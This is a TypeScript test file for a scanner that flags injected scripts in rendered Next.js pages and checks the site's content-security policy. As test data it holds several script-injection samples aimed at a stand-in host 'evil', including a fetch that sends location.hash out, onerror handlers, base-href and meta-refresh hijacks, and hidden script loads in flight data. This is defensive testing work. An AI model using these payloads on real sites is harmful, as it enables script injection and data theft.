import { createHash } from 'node:crypto';
import { expect, test } from 'vitest';
import { isOurPolicy } from './page-policy';
import { pageScripts } from './page-scripts';

const early = '"use strict";(()=>{window.early={}})();';
const sums = new Set([createHash('sha256').update(`${early}\n`).digest('hex')]);

const script = (text: string) => `<script nonce="abc">${text}</script>`;
const flight = (rows: string) => script(`self.__next_f.push(${JSON.stringify([1, rows])})`);
const read = (html: string) => pageScripts(html, sums);

const page = [
  '<!DOCTYPE html><html><head><link rel="stylesheet" href="/_next/static/chunks/a.css" data-precedence="next"/>',
  '<link rel="preload" as="script" href="/_next/static/chunks/b.js"/><link rel="icon" href="/icon.svg"/>',
  '<script src="/_next/static/chunks/c.js" async="" nonce="abc"></script></head><body>',
  script(early),
  script(`${early}early.startVisit(["/api/","/x"],"id","Key");early.drawCover([],"id");`),
  script('(self.__next_f=self.__next_f||[]).push([0])'),
  script(
    '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/d.js"],"runtimeModuleIds":[1]});',
  ),
  flight('4:"/_next/static/chunks/e.js"\n1:I[42,["$4"],"Name"]\n2:T7,3:I[1]\n'),
  flight('3:["$","div",null,{"children":"an only = word"}]\n:HL["/_next/static/chunks/f.css","style"]\n'),
  '</body></html>',
].join('');

test('a page of ours has nothing odd, and all that it loads is found: by tags, by the start of its scripts, by its data', () => {
  const { loads, odd } = read(page);
  expect(odd).toEqual([]);
  expect(loads.map((one) => one.replace('/_next/static/chunks/', '')).sort()).toEqual([
    'a.css',
    'b.js',
    'c.js',
    'd.js',
    'e.js',
    'f.css',
  ]);
});

test.each([
  ['another script as text', script('fetch("//evil/"+location.hash)')],
  ['one behind ours', script(`${early}fetch("//evil")`)],
  ['one in the arguments of ours', script(`${early}early.startVisit(fetch("//evil"));`)],
  ['one behind data', script('self.__next_f.push([1,""]);fetch("//evil")')],
  [
    'a page without its scripts’ start as data',
    script(
      '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":[],"runtimeModuleIds":[],"x":1});',
    ),
  ],
  ['a tag that only browsers can read', '<script/x src=//evil></script>'],
  ['a tag in capitals', '<SCRIPT src="https://evil/x.js"></SCRIPT>'],
  ['a tag with a quote in it', '<script x=a"b>evil()</script><p title="">'],
  ['a handler of events', '<img src="x" onerror="evil()"/>'],
  ['another base of addresses', '<base href="//evil/"/>'],
  ['a frame', '<iframe srcdoc="x"></iframe>'],
  ['a redirect', '<meta http-equiv="refresh" content="0;//evil"/>'],
  ['a frame by data', flight('1:["$","iframe",null,{"src":"//evil"}]\n')],
])('%s is odd', (_, html) => {
  expect(read(`<html><body>${html}</body></html>`).odd).toHaveLength(1);
});

test.each([
  ['a script of a picture', '<svg><script href="https://evil/x.js"></script></svg>'],
  ['a module that is loaded ahead', '<link rel="modulepreload" href="https://evil/x.js"/>'],
  ['data that name a script', flight('1:I[42,["https://evil/x.js"],"Name"]\n')],
  ['data that hint at one', flight(':HS["https://evil/x.js"]\n')],
  ['data that draw one', flight('1:[["$","script",null,{"async":true,"src":"https://evil/x.js"}]]\n')],
  ['data behind a text without a line end', flight('1:T3,a\nb2:I[42,["https://evil/x.js"],"Name"]\n')],
  ['data that refer to a text', flight('a:T11,https://evil/x.js1:I[42,["$a"],"Name"]\n')],
  ['data as bytes', script(`self.__next_f.push([3,"${btoa('1:HS["https://evil/x.js"]\n')}"])`)],
])('%s is loaded', (_, html) => {
  expect(read(html)).toEqual({ loads: ['https://evil/x.js'], odd: [] });
});

const policy =
  "default-src 'none'; script-src 'self' 'nonce-qRVxAmugqCrbGzBhf6iOFQ==' 'strict-dynamic'; frame-src 'self'; " +
  "connect-src 'self'; worker-src 'self' blob:; form-action 'self'; base-uri 'none'; object-src 'none'";

test('the policy of our pages is known, and each hole in it is seen', () => {
  expect(isOurPolicy(policy)).toBe(true);
  expect(isOurPolicy(null)).toBe(false);
  expect(isOurPolicy(policy.replace("'strict-dynamic'", "'strict-dynamic' 'unsafe-inline'"))).toBe(false);
  const connecting = (to: string) => policy.replace("connect-src 'self'", `connect-src 'self' ${to}`);
  expect(isOurPolicy(connecting('https://bucket.example:9000'))).toBe(true);
  for (const to of [
    'https:',
    '*',
    'https://*.example',
    'https://a.example https://b.example',
    'ws://a.example',
  ])
    expect(isOurPolicy(connecting(to)), to).toBe(false);
  expect(isOurPolicy(`script-src *; ${policy}`)).toBe(false);
  expect(isOurPolicy(policy.replace("; object-src 'none'", ''))).toBe(false);
});
